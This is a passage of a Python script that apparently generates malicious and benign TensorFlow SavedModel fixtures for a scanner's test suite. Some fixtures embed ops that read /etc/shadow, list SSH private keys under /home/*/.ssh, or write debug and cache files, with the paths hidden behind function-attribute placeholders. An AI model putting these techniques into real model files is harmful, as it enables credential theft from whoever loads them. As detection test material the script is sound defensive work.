            node("Identity", "Identity", ["ImmutableConst:tensor:0"], {"T": a_type(F)})]
    fn = function_with_attrs("__inference_mm_301", [], [arg("identity", F)], body, {"identity": "Identity:output:0"},
                             [("region", "string")])
    caller = node("mm_call", "StatefulPartitionedCall", [], {"Tin": a_list(), "Tout": a_list(types=[F]),
                                                             "f": a_func("__inference_mm_301", {"region": a_s("/etc/shadow")})})
    out("malicious", "immutableconst_placeholder/saved_model.pb",
        saved_model_pb(main_extra=[caller], extra_functions=[fn], extra_ops=["ImmutableConst"]),
        "ImmutableConst region as a function attr placeholder", "high", "tf/file-op",
        "memory_region_name placeholder resolved through the caller's attrs to /etc/shadow")
    # DebugIdentity debug_urls (list(string)) via a placeholder.
    body = [node("DebugIdentity", "DebugIdentity", ["x"], {"T": a_type(F), "debug_urls": ph_attr("urls")}),
            node("Identity", "Identity", ["DebugIdentity:output:0"], {"T": a_type(F)})]
    fn = function_with_attrs("__inference_dbg_302", [arg("x", F)], [arg("identity", F)], body,
                             {"identity": "Identity:output:0"}, [("urls", "list(string)")])
    caller = node("dbg_call", "StatefulPartitionedCall", ["serving_default_dense_input"], {
        "Tin": a_list(types=[F]), "Tout": a_list(types=[F]),
        "f": a_func("__inference_dbg_302", {"urls": a_list(strings=["file:///tmp/hallmark-marker-dump"])})})
    out("malicious", "debugidentity_placeholder/saved_model.pb",
        saved_model_pb(main_extra=[caller], extra_functions=[fn], extra_ops=["DebugIdentity"]),
        "DebugIdentity debug_urls as a function attr placeholder", "high", "tf/file-op",
        "debug_urls placeholder resolved through the caller's list(string) attr to file:///tmp/hallmark-marker-dump")
    # A placeholder no call site in the graph supplies (the function is only reachable from outside).
    body = [node("ImmutableConst", "ImmutableConst", [], {"dtype": a_type(F), "shape": a_shape([16]),
                                                          "memory_region_name": ph_attr("region")}),
            node("Identity", "Identity", ["ImmutableConst:tensor:0"], {"T": a_type(F)})]
    fn = function_with_attrs("__inference_mm_303", [], [arg("identity", F)], body, {"identity": "Identity:output:0"},
                             [("region", "string")])
    out("malicious", "immutableconst_placeholder_unresolved/saved_model.pb",
        saved_model_pb(extra_functions=[fn], extra_ops=["ImmutableConst"]),
        "unresolved path placeholder", "high", "supplied by the caller",
        "ImmutableConst memory_region_name is a placeholder that no call site fixes: the path is chosen by whoever instantiates the function")
    # CacheDataset writing its cache to a fixed path; MatchingFilesDataset listing SSH keys.
    out("malicious", "cachedataset_path/saved_model.pb",
        saved_model_pb(main_extra=[
            const_str("c/file", "/tmp/hallmark-marker-cache"),
            node("c/ds", "TensorSliceDataset", ["serving_default_dense_input"],
                 {"Toutput_types": a_list(types=[F]), "output_shapes": a_list(shapes=[shape([4])])}),
            node("c/Cache", "CacheDataset", ["c/ds", "c/file"],
                 {"output_types": a_list(types=[F]), "output_shapes": a_list(shapes=[shape([4])])}),
            const_str("m/glob", "/home/*/.ssh/id_*"),
            node("m/MatchingFilesDataset", "MatchingFilesDataset", ["m/glob"])],
            extra_ops=["CacheDataset", "MatchingFilesDataset", "TensorSliceDataset"]),
        "CacheDataset to a fixed path + MatchingFilesDataset", "high", "tf/file-op",
        "Dataset.cache('/tmp/hallmark-marker-cache') writes files; Dataset.list_files('/home/*/.ssh/id_*') lists SSH keys")


def main():
    benign()
    malicious()
    placeholder_fixtures()
    with open(os.path.join(ROOT, "manifest.json"), "w") as f:
        f.write("[\n" + ",\n".join(json.dumps(e) for e in MANIFEST) + "\n]\n")
    print("wrote %d fixtures" % len(MANIFEST), file=sys.stderr)


if __name__ == "__main__":
    main()
